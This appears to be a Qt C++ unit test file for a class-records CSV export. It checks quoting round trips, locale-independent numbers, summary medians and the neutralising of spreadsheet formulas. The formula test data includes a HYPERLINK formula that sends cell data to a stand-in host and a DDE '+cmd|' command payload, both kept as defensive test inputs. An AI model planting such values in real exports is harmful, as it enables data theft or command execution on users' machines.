// The class's table and summary: each column's text, RFC 4180 quoting read
// back by an independent reader, and what the summary counts.
#include "RegistrosTurma.h"
#include "turma/ResumoTurma.h"
#include "turma/TabelaCsv.h"

#include <QtTest>

using namespace Qt::StringLiterals;

namespace {

TLinhaTurma Linha(EConferencia c, const QString& gerente, std::optional<int> jogo,
                  std::optional<int> dias, std::optional<double> custo, bool concluido = true) {
    return {u"f.json"_s, gerente, jogo, concluido, dias, custo, c, u"ab"_s, u"why\nnot"_s};
}

} // namespace

class TstTabelaTurma : public QObject {
    Q_OBJECT

private slots:
    // Guards against a name with a comma, a quote or a line break splitting
    // or ending its row, and text changed on the way (non-ASCII letters).
    void EveryTextSurvivesTheTableRoundTrip() {
        const QStringList nomes{u"plain"_s,    u"Bob, Jr."_s, u"say \"hi\""_s,   u"two\r\nlines"_s,
                                u"cr\ronly"_s, u"lf\nonly"_s, u"Zoë Ærø 学生"_s, u"\"\""_s,
                                u""_s,         u" spaced "_s, u"a=1+1"_s};
        QList<TLinhaTurma> linhas;
        for (const QString& nome : nomes) {
            TLinhaTurma l = Linha(EConferencia::Verificado, nome, 1, 2, 3.0);
            l.Arquivo = u"pasta, \"x\"\n/"_s + nome;
            linhas.append(l);
        }
        const QList<QStringList> lidas = LeCsv(TabelaCsv(linhas));
        QCOMPARE(lidas.size(), nomes.size() + 1);
        QCOMPARE(lidas.at(0).join(u','), QString::fromLatin1(CabecalhoCsv));
        for (qsizetype i = 0; i < nomes.size(); ++i) {
            QCOMPARE(lidas.at(i + 1), CamposLinha(linhas.at(i)));
            QCOMPARE(lidas.at(i + 1).at(1), nomes.at(i));
        }
    }

    void StudentTextNeverBecomesAFormulaOrAControl_data() {
        QTest::addColumn<QString>("texto");
        QTest::addColumn<QString>("escrito");
        QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://x.test/?\"&A1,\"cv\")"_s
                                   << u"'=HYPERLINK(\"http://x.test/?\"&A1,\"cv\")"_s;
        QTest::newRow("command") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
        QTest::newRow("at") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
        QTest::newRow("tab first") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("CR first") << u"\r\n=1"_s << u"'\r\n=1"_s;
        QTest::newRow("sign inside") << u"a=b-c"_s << u"a=b-c"_s;
        QTest::newRow("blank first") << u" =1"_s << u" =1"_s;
        QTest::newRow("placeholders") << u"%1 %2 100%"_s << u"%1 %2 100%"_s;
        QTest::newRow("controls") << u"a\x07" "b\x1b[2J\x7f\u0085"_s
                                  << u"a\ufffdb\ufffd[2J\ufffd\ufffd"_s;
        QTest::newRow("NUL") << QString(QChar(0)) + u"x"_s << u"\ufffdx"_s;
        QTest::newRow("tab and line breaks stay") << u"a\tb\r\nc\nd"_s << u"a\tb\r\nc\nd"_s;
    }
    // Guards against a manager's or file's name that a teacher's spreadsheet
    // runs as a formula (a link that sends data away, a command), and
    // control characters written raw into the table.
    void StudentTextNeverBecomesAFormulaOrAControl() {
        QFETCH(QString, texto);
        QFETCH(QString, escrito);
        TLinhaTurma linha = Linha(EConferencia::Verificado, texto, -1, 2, -5.0);
        linha.Arquivo = texto;
        const QList<QStringList> lidas = LeCsv(TabelaCsv({linha}));
        QCOMPARE(lidas.size(), 2);
        QCOMPARE(lidas.at(1).at(0), escrito);
        QCOMPARE(lidas.at(1).at(1), escrito);
        // Numbers the table writes are never marked, even with a sign.
        QCOMPARE(lidas.at(1).at(2), u"-1"_s);
        QCOMPARE(lidas.at(1).at(5), u"-5.00"_s);
    }

    void ColumnsAreWrittenInTheCLocale_data() {
        QTest::addColumn<QString>("localidade");
        QTest::newRow("C") << u"C"_s;
        QTest::newRow("German") << u"de_DE"_s;
        QTest::newRow("Arabic") << u"ar_EG"_s;
    }
    // Guards against a decimal comma, digit grouping or other digits in the
    // table when the user's locale has them.
    void ColumnsAreWrittenInTheCLocale() {
        QFETCH(QString, localidade);
        QLocale::setDefault(QLocale(localidade));
        const QStringList campos =
            CamposLinha(Linha(EConferencia::Divergente, u"A"_s, 12345, 1234, 16200.126));
        const QStringList vazios =
            CamposLinha(Linha(EConferencia::Ilegivel, QString(), {}, {}, {}, false));
        QLocale::setDefault(QLocale::c());
        QCOMPARE(campos, (QStringList{u"f.json"_s, u"A"_s, u"12345"_s, u"true"_s, u"1234"_s,
                                      u"16200.13"_s, u"mismatch"_s, u"ab"_s}));
        QCOMPARE(vazios, (QStringList{u"f.json"_s, QString(), QString(), u"false"_s, QString(),
                                      QString(), u"unreadable"_s, u"ab"_s}));
    }

    // Guards against unverified, mismatching or abandoned games in the
    // medians and bests, an even count's median taken off the middle, and a
    // game counted twice for a manager because a record and its record
    // file's section both show it.
    void TheSummaryCountsVerifiedConcludedGamesAndManagersGames() {
        const auto v = EConferencia::Verificado;
        const QList<TLinhaTurma> linhas{
            Linha(v, u"Ana"_s, 1, 40, 9000),
            Linha(v, u"Ana"_s, 2, 30, 12000),
            Linha(v, u"Bo"_s, 1, 51, 10000),
            Linha(v, u"Bo"_s, 2, 20, 15000),
            Linha(v, u"Bo"_s, 3, 5, 100, false),
            Linha(EConferencia::NaoVerificado, u"Ana"_s, 2, 1, 1),
            Linha(EConferencia::Divergente, u"Cy\n"_s, 1, 2, 2),
            Linha(EConferencia::Divergente, u"Cy\n"_s, 1, 2, 2),
            Linha(EConferencia::Ilegivel, u"Di"_s, {}, {}, {}),
            Linha(EConferencia::Ilegivel, u"Di"_s, 4, {}, {}),
            Linha(v, u"%1 %2 100%"_s, 1, 60, 9500),
            Linha(v, u"%1 %2 100%"_s, 2, 60, 9500),
        };
        const TResumoTurma r = ResumeTurma(linhas);
        QCOMPARE(r.Jogos, 12);
        QCOMPARE(r.Verificados, 7);
        QCOMPARE(r.Divergentes, 2);
        QCOMPARE(r.NaoVerificados, 1);
        QCOMPARE(r.Ilegiveis, 2);
        QCOMPARE(r.Concluidos, 6);
        QCOMPARE(r.MedianaDias, 45.5);
        QCOMPARE(r.MelhorDias, 20);
        QCOMPARE(r.MedianaCusto, 9750.0);
        QCOMPARE(r.MelhorCusto, 9000.0);
        const QStringList texto = TextoResumo(r, linhas).split(u'\n');
        // A name full of placeholders is shown as it is.
        QCOMPARE(texto.mid(0, 3),
                 (QStringList{u"games: 12 (7 verified, 2 mismatch, 1 unverified, 2 unreadable)"_s,
                              u"verified concluded games: 6; days: median 45.5, best 20; cost: "
                              "median 9750.00, best 9000.00"_s,
                              u"managers with more than one counted game: \"%1 %2 100%\" (2), "
                              "\"Ana\" (2), \"Bo\" (3)"_s}));
        // One whole line per mismatch and unreadable file, and nothing after.
        QCOMPARE(texto.size(), 3 + 4 + 1);
        QCOMPARE(texto.at(3), u"mismatch: f.json: why\\nnot"_s);
        QCOMPARE(texto.last(), QString());
    }
};

QTEST_GUILESS_MAIN(TstTabelaTurma)
#include "tst_tabela_turma.moc"
